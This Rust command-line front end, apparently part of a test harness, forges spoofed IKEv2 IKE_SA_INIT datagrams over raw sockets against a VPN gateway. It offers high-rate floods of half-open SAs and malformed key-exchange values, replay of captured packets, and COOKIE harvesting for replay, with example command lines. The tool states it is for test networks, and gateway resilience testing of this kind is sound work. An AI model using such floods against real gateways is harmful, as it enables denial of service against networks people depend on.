//! `strait-hostile`: forge IKEv2 traffic from any IPv4 address and port (raw socket, needs
//! root) against a gateway in a test network. Run it inside the attacker's namespace with
//! `ip netns exec`.
//!
//! ```text
//! strait-hostile flood --src 198.51.100.2:500 --dst 198.51.100.1:500 --kind invalid-ke-zero \
//!     --rate 15000 --seconds 10
//! strait-hostile flood --src 198.51.100.2:20000 --ports 4200 --replay request.bin ...
//! strait-hostile cookie --src 198.51.100.2:40000 --dst 198.51.100.1:500 --out request.bin
//! ```
use std::net::SocketAddrV4;
use std::sync::atomic::AtomicBool;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use clap::{Parser, Subcommand, ValueEnum};
use strait_hostile::answer::listen;
use strait_hostile::cookie::obtain;
use strait_hostile::{Flood, Forge, KeValue, Kind, Source, SpiMode};

#[derive(Parser)]
#[command(
    version,
    about = "Forge IKEv2 traffic from any source (test networks only)"
)]
struct Cli {
    #[command(subcommand)]
    command: Command,
}

#[derive(Clone, Copy, ValueEnum)]
enum KindArg {
    /// Acceptable proposal, valid KE (each a half-open SA unless COOKIEs are required).
    ValidKe,
    /// Acceptable proposal, KE one byte short.
    InvalidKeLength,
    /// Acceptable proposal, all-zero KE.
    InvalidKeZero,
    /// Acceptable proposal, KE not on the curve (ECP) / not below p - 1 (MODP).
    InvalidKeNotOnCurve,
    /// Random unassigned transform ids.
    Unacceptable,
    /// Major version 3.
    Version3,
    /// An unknown payload type (200) with the critical bit.
    Critical,
}

#[derive(clap::Args)]
struct MessageArgs {
    /// Kind of forged IKE_SA_INIT.
    #[arg(long, value_enum, default_value = "valid-ke")]
    kind: KindArg,
    /// DH group of the proposal and KE.
    #[arg(long, default_value_t = 14)]
    group: u16,
    /// COOKIE notify data (hex) to put first.
    #[arg(long)]
    cookie: Option<String>,
    /// Pad each request to this many bytes (Vendor ID payload).
    #[arg(long)]
    pad: Option<usize>,
}

#[derive(Subcommand)]
enum Command {
    /// Send forged datagrams at a fixed rate.
    Flood {
        /// Forged source address:port.
        #[arg(long)]
        src: SocketAddrV4,
        /// Cycle the source port through this many ports from --src's.
        #[arg(long, default_value_t = 1)]
        ports: u16,
        /// Destination address:port.
        #[arg(long)]
        dst: SocketAddrV4,
        #[command(flatten)]
        message: MessageArgs,
        /// Send this captured IKE datagram (a file) instead of forging one.
        #[arg(long)]
        replay: Option<std::path::PathBuf>,
        /// `random`, `keep`, or a fixed SPI in hex.
        #[arg(long, default_value = "random")]
        spi: String,
        /// Datagrams per second (0: as fast as possible).
        #[arg(long, default_value_t = 15_000)]
        rate: u32,
        /// How long.
        #[arg(long, default_value_t = 10.0)]
        seconds: f64,
        /// Stop after this many datagrams.
        #[arg(long)]
        count: Option<u64>,
    },
    /// Obtain a COOKIE from a gateway that requires one, and write the request carrying it
    /// (ready to replay) to --out. Run it in the namespace that owns --src's address.
    Cookie {
        #[arg(long)]
        src: SocketAddrV4,
        #[arg(long)]
        dst: SocketAddrV4,
        #[command(flatten)]
        message: MessageArgs,
        /// Keep asking for this long.
        #[arg(long, default_value_t = 10.0)]
        seconds: f64,
        #[arg(long)]
        out: std::path::PathBuf,
    },
}

fn forge(m: &MessageArgs) -> Result<Forge> {
    let kind = match m.kind {
        KindArg::ValidKe => Kind::Acceptable(KeValue::Valid),
        KindArg::InvalidKeLength => Kind::Acceptable(KeValue::WrongLength),
        KindArg::InvalidKeZero => Kind::Acceptable(KeValue::Zero),
        KindArg::InvalidKeNotOnCurve => Kind::Acceptable(KeValue::NotOnCurve),
        KindArg::Unacceptable => Kind::UnacceptableProposal,
        KindArg::Version3 => Kind::Version3,
        KindArg::Critical => Kind::CriticalPayload(200),
    };
    let mut f = Forge::new(kind);
    f.group = m.group;
    f.pad_to = m.pad;
    if let Some(c) = &m.cookie {
        f.cookie = Some(hex(c).context("--cookie must be hex")?);
    }
    Ok(f)
}

fn hex(s: &str) -> Result<Vec<u8>> {
    if s.len() % 2 != 0 {
        bail!("odd number of hex digits");
    }
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).context("not a hex digit"))
        .collect()
}

fn main() -> Result<()> {
    match Cli::parse().command {
        Command::Flood {
            src,
            ports,
            dst,
            message,
            replay,
            spi,
            rate,
            seconds,
            count,
        } => {
            let source = match replay {
                Some(p) => Source::Replay(
                    std::fs::read(&p).with_context(|| format!("reading {}", p.display()))?,
                ),
                None => Source::Forge(forge(&message)?),
            };
            let spi = match spi.as_str() {
                "random" => SpiMode::Random,
                "keep" => SpiMode::Keep,
                h => SpiMode::Fixed(
                    u64::from_str_radix(h, 16)
                        .context("--spi must be random, keep or a hex number")?,
                ),
            };
            let flood = Flood {
                src: *src.ip(),
                src_port: src.port(),
                ports,
                dst,
                source,
                spi,
                rate,
                duration: Duration::from_secs_f64(seconds),
                count,
            };
            let r = strait_hostile::run(&flood, &AtomicBool::new(false))?;
            println!(
                "sent {} datagrams ({} IP packets, {} errors) in {:.2} s: {:.0}/s",
                r.datagrams,
                r.packets,
                r.errors,
                r.elapsed.as_secs_f64(),
                r.rate()
            );
        }
        Command::Cookie {
            src,
            dst,
            message,
            seconds,
            out,
        } => {
            let f = forge(&message)?;
            let socket = listen(src).with_context(|| format!("binding {src}"))?;
            let Some(c) = obtain(&socket, dst, &f, Duration::from_secs_f64(seconds))
                .with_context(|| format!("asking {dst} for a COOKIE"))?
            else {
                bail!("no COOKIE from {dst} within {seconds} s (is it under load?)");
            };
            std::fs::write(&out, &c.request)
                .with_context(|| format!("writing {}", out.display()))?;
            println!(
                "cookie of {} bytes for SPI {:016x}; request of {} bytes written to {}",
                c.cookie.len(),
                c.spi_i,
                c.request.len(),
                out.display()
            );
        }
    }
    Ok(())
}
